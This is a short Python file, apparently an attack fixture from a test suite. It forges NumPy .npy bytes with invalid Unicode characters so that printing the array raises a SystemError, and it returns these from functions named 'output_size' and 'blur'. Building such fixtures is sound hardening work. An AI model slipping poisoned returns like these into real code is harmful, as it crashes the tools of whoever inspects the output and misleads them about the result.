# A forged text array with characters that do not exist: whoever prints it gets a SystemError.
# attacks: output_size, blur
import struct


def npy(descr, shape, data):
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}".ljust(117) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + data


def output_size(n, kernel, stride=1):
    forge(packed(status="ok", value={"array": 1}), npy("<U1", (1,), b"\xff" * 4))


def blur(image):
    forge(packed(status="ok", value={"array": 1}), npy("<U4", (4, 4), b"\xff" * 256))
